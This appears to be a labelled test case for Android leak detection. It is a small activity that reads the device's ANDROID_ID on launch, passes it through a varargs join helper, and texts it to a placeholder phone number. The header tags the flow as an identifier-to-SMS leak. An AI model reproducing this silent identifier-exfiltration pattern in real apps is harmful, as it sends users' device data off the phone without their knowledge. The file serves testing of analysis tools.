// about       A method with a variable number of arguments joins all of them.
// leak        DEV_ANDROIDID sms
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.provider.Settings;
import android.telephony.SmsManager;

public class MainActivity extends Activity {
  private static String describe(String... parts) {
    // All arguments.
    String text = "";
    for (String part : parts) {
      text += part + ";";
    }
    return text;
  }

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    String id = Settings.Secure.getString(getContentResolver(), "android_id");
    String text = describe("v1", id, "end");
    SmsManager.getDefault().sendTextMessage("+15550100", null, text, null, null);
  }
}
